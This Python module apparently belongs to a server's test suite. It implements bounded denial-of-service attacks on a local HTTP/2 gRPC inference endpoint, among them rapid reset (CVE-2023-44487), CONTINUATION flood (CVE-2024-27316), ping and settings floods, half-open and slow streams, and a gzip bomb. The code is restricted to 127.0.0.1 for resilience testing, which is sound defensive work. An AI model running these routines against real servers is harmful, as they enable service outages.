"""Attacks on the wire, each bounded in count and time, against a server on this machine and no other.

Those of a table that grpcio's own servers were tried with (half-open streams locked two of three out), and what other
HTTP/2 servers have fallen to since. Each returns what the server did, for the test to look at.
"""

import gzip
import socket
import struct
import time
from collections.abc import Iterable, Iterator
from contextlib import ExitStack, contextmanager, suppress

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from protos import open_inference_grpc_pb2 as oip

INFER = "/inference.GRPCInferenceService/ModelInfer"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "localhost"),
    (":path", INFER),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
LONGEST_S = 20.0  # of any attack


class Connection:
    """HTTP/2 without a library's good manners: it keeps none of the peer's limits unless told to."""

    def __init__(self, address: str, settings: dict[int, int] | None = None) -> None:
        host, port = address.rsplit(":", 1)
        assert host == "127.0.0.1", "attacks are for this machine alone"
        self.socket = socket.create_connection((host, int(port)), timeout=LONGEST_S)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        if settings:
            self.h2.update_settings(settings)
        self.flush()

    def flush(self) -> None:
        self.socket.sendall(self.h2.data_to_send())

    def open_stream(self, extra: Iterable[tuple[str, str]] = (), end: bool = False) -> int:
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, [*HEADERS, *extra], end_stream=end)
        return stream

    def events(self, until_s: float) -> Iterator[h2.events.Event]:
        """What the server says, until it hangs up or the time is over."""
        end = time.monotonic() + until_s
        while (left := end - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                data = self.socket.recv(2**16)
            except TimeoutError:
                return
            except OSError:
                data = b""
            if not data:
                yield h2.events.ConnectionTerminated()
                return
            with suppress(h2.exceptions.ProtocolError):
                yield from self.h2.receive_data(data)
            with suppress(OSError):
                self.flush()

    def send_raw(self, data: bytes) -> bool:
        """Whether the server still listens."""
        try:
            self.socket.sendall(data)
        except OSError:
            return False
        return True

    def close(self) -> None:
        self.socket.close()


@contextmanager
def connections(address: str, count: int, settings: dict[int, int] | None = None) -> Iterator[list[Connection]]:
    with ExitStack() as stack:
        opened = []
        for _ in range(count):
            connection = Connection(address, settings)
            stack.callback(connection.close)
            opened.append(connection)
        yield opened


def half_open_streams(address: str, seconds: float = 3.0) -> int:
    """Calls whose message never comes: 600 of them, as many on a connection as the server allows. Returns how many."""
    opened = 0
    with ExitStack() as stack:
        while opened < 600:
            connection = Connection(address)
            stack.callback(connection.close)
            for _ in connection.events(0.2):  # its settings, among them how many streams it allows
                pass
            with suppress(h2.exceptions.TooManyStreamsError):
                for _ in range(min(600 - opened, 100)):
                    connection.open_stream()
                    opened += 1
            connection.flush()
        time.sleep(seconds)  # they stay open so long: the attack itself, not a wait for something
    return opened


def silent_sockets(address: str) -> int:
    """300 sockets that never speak. Returns how many the server closed."""
    host, port = address.rsplit(":", 1)
    with ExitStack() as stack:
        opened = [stack.enter_context(socket.create_connection((host, int(port)))) for _ in range(300)]
        end = time.monotonic() + LONGEST_S
        closed = 0
        for each in opened:
            each.settimeout(max(end - time.monotonic(), 0.01))
            with suppress(TimeoutError):
                while each.recv(2**12):  # its settings, then nothing
                    pass
                closed += 1
        return closed


def ping_flood(address: str) -> bool:
    """200 pings and no call. Returns whether the server ended the connection."""
    with connections(address, 1) as (connection,):
        for i in range(200):
            if not connection.send_raw(PingFrame(0, struct.pack(">Q", i)).serialize()):
                return True
        return any(isinstance(event, h2.events.ConnectionTerminated) for event in connection.events(5.0))


def rapid_reset(address: str) -> int:
    """20,000 calls that are taken back at once (CVE-2023-44487). Returns how many could be sent."""
    sent = 0
    end = time.monotonic() + LONGEST_S
    while sent < 20_000 and time.monotonic() < end:
        with connections(address, 1) as (connection,):
            for first in range(0, 10_000, 100):  # a hundred in a piece, until the server hangs up
                pieces = []
                for call in range(first, first + 100):
                    block = connection.h2.encoder.encode(HEADERS)
                    pieces.append(HeadersFrame(2 * call + 1, block, flags=["END_HEADERS"]).serialize())
                    pieces.append(RstStreamFrame(2 * call + 1, error_code=8).serialize())
                sent += 100
                if not connection.send_raw(b"".join(pieces)) or sent >= 20_000:
                    break
    return sent


def continuation_flood(address: str) -> bool:
    """Headers that never end (CVE-2024-27316): 4 MiB of them. Returns whether the server ended the connection."""
    with connections(address, 1) as (connection,):
        block = connection.h2.encoder.encode(HEADERS)
        connection.send_raw(HeadersFrame(1, block).serialize())
        filler = ContinuationFrame(1, connection.h2.encoder.encode([("x-a", "b" * 8000)])).serialize()
        for _ in range(512):
            if not connection.send_raw(filler):
                return True
        return any(isinstance(event, h2.events.ConnectionTerminated) for event in connection.events(5.0))


def settings_flood(address: str) -> int:
    """10,000 frames of settings, each of which wants an acknowledgement. Returns how many could be sent."""
    with connections(address, 1) as (connection,):
        frame = SettingsFrame(0, settings={h2.settings.SettingCodes.HEADER_TABLE_SIZE: 4096}).serialize()
        for i in range(100):
            if not connection.send_raw(frame * 100):
                return 100 * i
        return 10_000


def garbage(address: str) -> int:
    """Sockets that speak something else: TLS, HTTP/1.1, noise after the preface. Returns how many were closed."""
    host, port = address.rsplit(":", 1)
    closed = 0
    for text in (b"\x16\x03\x01" + bytes(200), b"GET / HTTP/1.1\r\n\r\n" * 50, PREFACE + b"\xff" * 2000, bytes(5000)):
        for _ in range(20):
            with socket.create_connection((host, int(port)), timeout=LONGEST_S) as each:
                with suppress(OSError):
                    each.sendall(text)
                    while each.recv(2**12):
                        pass
                closed += 1
    return closed


def large_headers(address: str) -> list[set[grpc.StatusCode]]:
    """Codes of twenty calls with 14 KB of metadata each, which name no model, and of as many with 17 KB."""
    with grpc.insecure_channel(address) as channel:
        call = channel.unary_unary(INFER)
        return [
            {call.future(b"", timeout=LONGEST_S, metadata=[("x-large", "a" * size)]).code() for _ in range(20)}
            for size in (14_000, 17_000)
        ]


def large_message(address: str) -> set[grpc.StatusCode]:
    """Ten of 8 MiB."""
    with grpc.insecure_channel(address, [("grpc.max_send_message_length", -1)]) as channel:
        calls = [channel.unary_unary(INFER).future(bytes(2**23), timeout=LONGEST_S) for _ in range(10)]
        return {call.code() for call in calls}


def gzip_bomb(address: str) -> str:
    """256 MiB of zeros in 256 KiB. Returns grpc-status."""
    packed = gzip.compress(bytes(2**28), compresslevel=1)
    message = b"\x01" + struct.pack(">I", len(packed)) + packed
    return _send(address, message, [("grpc-encoding", "gzip")])


def slow_message(address: str, seconds: float = 3.0) -> None:
    """Fifty messages that come a byte at a time."""
    body = oip.ModelInferRequest(model_name="tiny").SerializeToString()
    message = b"\x00" + struct.pack(">I", 2**15) + body
    with connections(address, 5) as opened:
        streams = [(connection, connection.open_stream()) for connection in opened for _ in range(10)]
        for i in range(int(seconds / 0.05)):
            for connection, stream in streams:
                connection.h2.send_data(stream, message[i % len(message)].to_bytes())
            for connection in opened:
                connection.flush()
            time.sleep(0.05)


def answers_never_read(address: str, message: bytes, calls: int = 90, seconds: float = 3.0) -> None:
    """Calls whose client leaves no room for an answer: a flow-control window of 0."""
    framed = b"\x00" + struct.pack(">I", len(message)) + message
    with connections(address, 1, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}) as (connection,):
        for _ in connection.events(0.2):
            pass
        for _ in range(calls):
            stream = connection.open_stream()
            connection.h2.send_data(stream, framed, end_stream=True)
        connection.flush()
        time.sleep(seconds)


def _send(address: str, message: bytes, extra: list[tuple[str, str]]) -> str:
    """grpc-status of one call, or what the server did instead of answering."""
    with connections(address, 1) as (connection,):
        stream = connection.open_stream(extra)
        rest = memoryview(message)
        events = connection.events(LONGEST_S)
        while rest:
            room = min(
                connection.h2.local_flow_control_window(stream), connection.h2.max_outbound_frame_size, len(rest)
            )
            if room:
                connection.h2.send_data(stream, rest[:room].tobytes(), end_stream=room == len(rest))
                connection.flush()
                rest = rest[room:]
                continue
            for event in events:
                if isinstance(event, h2.events.WindowUpdated):
                    break
                if found := _status(event):
                    return found
        for event in events:
            if found := _status(event):
                return found
    return "no answer"


def _status(event: h2.events.Event) -> str:
    if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
        return dict(event.headers).get("grpc-status", "")
    if isinstance(event, h2.events.StreamReset):
        return "reset"
    return "closed" if isinstance(event, h2.events.ConnectionTerminated) else ""
